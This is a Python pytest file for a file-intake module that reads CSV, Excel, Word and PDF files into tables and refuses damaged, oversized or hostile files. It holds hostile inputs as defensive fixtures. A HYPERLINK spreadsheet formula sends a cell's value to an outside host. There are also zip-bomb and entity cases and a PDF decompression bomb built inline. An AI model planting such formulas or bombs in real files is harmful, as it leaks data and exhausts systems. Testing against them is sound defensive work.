"""Files of every kind become tables; whatever cannot be read is refused in a sentence, and harms nobody."""

import io
import zlib

import docx
import pikepdf
import pytest

from intake.formats.apart import read_apart
from intake.formats.reading import read
from intake.formats.tables import CannotRead
from tests.intake import files

ROWS = (("Name", "Interest"), ("Ada Larkin", "Larkfield Surgery"), ("Zoë O’Dell", "Wren Clinic"))


def cells(content, **how) -> list[list[list[str]]]:
    return [[row.cells for row in table.rows] for table in read(content, **{"only_lists": False, **how})]


@pytest.mark.parametrize(
    "content",
    [
        files.as_csv(*ROWS),
        files.as_csv(*ROWS, delimiter=";"),
        files.as_csv(*ROWS, delimiter="\t", encoding="utf-16"),
        files.as_csv(*ROWS, encoding="cp1252"),
        files.as_csv((), *ROWS, ("", ""), ()),
        files.as_workbook(*ROWS),
        files.as_workbook((None, None), *ROWS, (None, " ")),
        files.as_document(ROWS),
        files.as_pdf(*ROWS),
    ],
    ids=["csv", "semicolons", "utf-16 with tabs", "cp1252", "blank rows", "workbook", "blank cells", "word", "pdf"],
)
def test_the_same_table_is_read_from_every_kind_of_file(content):
    assert cells(content) == [[list(row) for row in ROWS]]


def test_what_a_file_is_shows_in_what_it_holds_not_in_its_name():
    """A name is never looked at: a document sent as a staff list is told from one."""
    for content in (files.as_pdf(*ROWS), files.as_document(ROWS)):
        with pytest.raises(CannotRead, match="A staff list is a CSV file or an Excel workbook"):
            read(content, only_lists=True)


def test_a_row_is_told_as_a_person_would_look_for_it():
    places = [row.place for row in read(files.as_csv((), *ROWS), only_lists=True)[0].rows]

    assert places == ["row 2", "row 3", "row 4"]


def test_a_formula_is_kept_as_text_and_carried_out_by_nobody():
    formula = '=HYPERLINK("http://example.org?"&A1,"x")'

    assert cells(files.as_workbook(("Name",), (formula,))) == [[["Name"], [formula]]]


def test_a_merged_cell_says_its_text_of_every_row_it_stands_beside():
    rows = (("Name", "Interest"), ("Ada Larkin", "Larkfield Surgery"), ("", "Wren Clinic"))

    assert cells(files.as_document(rows, merged=[(0, 1, 2)]))[0][2] == ["Ada Larkin", "Wren Clinic"]


def test_a_table_within_a_cell_is_read_as_a_table_too():
    document = docx.Document()
    outer = document.add_table(1, 1)
    inner = outer.cell(0, 0).add_table(2, 2)
    for number, row in enumerate(ROWS[:2]):
        for place, text in enumerate(row):
            inner.cell(number, place).text = text
    file = io.BytesIO()
    document.save(file)

    assert [list(row) for row in ROWS[:2]] in cells(file.getvalue())


def test_a_table_over_three_pages_is_three_tables_with_its_headings():
    rows = [("Name", "Interest"), *((f"Person {number}", "Wren Clinic") for number in range(30))]

    tables = cells(files.as_pdf(*rows, size="A7 landscape"))

    assert len(tables) >= 3
    assert sum(table[0] == ["Name", "Interest"] for table in tables) == len(tables)
    assert sum(len(table) - 1 for table in tables) == 30


def without_a_table() -> bytes:
    return files.HTML(string="<p>Register of interests</p>").write_pdf()


def document_without_a_table() -> bytes:
    file = io.BytesIO()
    docx.Document().save(file)
    return file.getvalue()


@pytest.mark.parametrize(
    ("content", "why"),
    [
        (files.zip_bomb(), "it unpacks to over 100 MB"),
        (files.entities(), "it is damaged"),
        (b"PK\x03\x04\x00", "neither an Excel workbook"),
        (b"\x00\x01\x02", "This is not a file we can read"),
        (b"\xd0\xcf\x11\xe0" + bytes(600), "locked with a password, or of the kind that Office wrote before 2007"),
        (b"%PDF-1.7\n nothing", "The PDF cannot be read"),
        (files.locked_pdf(files.as_pdf(*ROWS)), "locked with a password"),
        (without_a_table(), "no table with lines around its cells"),
        (document_without_a_table(), "no table in this Word document"),
        (b"\xef\xbb\xbf\n\n", "nothing in this file"),
        (b"x" * 10_000_001, "larger than 10MB"),
        (b'a\n"' + b"x" * 200_000, "cannot be read beyond row"),
    ],
    ids=[
        "zip bomb", "entities", "damaged zip", "binary", "locked workbook", "damaged pdf", "locked pdf", "pdf of prose",
        "word of prose", "empty", "too large", "endless cell",
    ],
)  # fmt: skip
def test_what_cannot_be_read_is_refused_in_a_sentence(content, why):
    with pytest.raises(CannotRead, match=why):
        read(content, only_lists=False)


@pytest.mark.parametrize(
    "content",
    [b"x\n" * 100_000, files.in_sheet("<row><c><v>1</v></c></row>" * 100_000)],
    ids=["csv", "workbook"],
)
def test_a_hundred_thousand_rows_are_refused(content):
    with pytest.raises(CannotRead, match="more than 20,000 rows"):
        read(content, only_lists=True)


def test_another_process_reads_and_answers_the_same():
    assert read_apart(files.as_csv(*ROWS), only_lists=True) == read(files.as_csv(*ROWS), only_lists=True)
    with pytest.raises(CannotRead, match="nothing in this file"):
        read_apart(b"\n", only_lists=True)


def test_a_file_that_takes_too_long_is_given_up():
    with pytest.raises(CannotRead, match="takes too long"):
        read_apart(files.as_csv(*ROWS), only_lists=True, seconds=0.01)


def test_a_pdf_that_unpacks_to_more_than_there_is_memory_for_is_given_up():
    with pikepdf.new() as pdf:
        page = pdf.add_blank_page()
        packed = zlib.compress(b" " * 400_000_000, 1)
        page.Contents = pikepdf.Stream(pdf, packed, Filter=pikepdf.Name.FlateDecode)
        file = io.BytesIO()
        pdf.save(file)

    with pytest.raises(CannotRead, match="too much memory"):
        read_apart(file.getvalue(), only_lists=False, memory=700_000_000)
